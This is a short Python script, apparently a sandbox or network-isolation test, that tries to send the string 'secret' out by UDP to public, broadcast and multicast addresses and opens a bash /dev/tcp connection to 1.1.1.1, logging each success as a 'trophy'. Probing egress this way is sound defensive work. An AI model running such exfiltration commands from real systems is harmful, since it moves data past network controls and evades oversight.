"""Send a secret out by UDP, DNS and ping, from Python and from a shell."""
import socket, subprocess

for address in (("1.1.1.1", 53), ("255.255.255.255", 9), ("224.0.0.1", 9), ("127.0.0.1", 53)):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(b"secret", address)
        trophy(f"sent to {address}")
    except OSError:
        pass
if subprocess.run("exec 3<>/dev/tcp/1.1.1.1/53", shell=True, executable="/bin/bash", stderr=subprocess.DEVNULL).returncode == 0:
    trophy("a shell's connection")
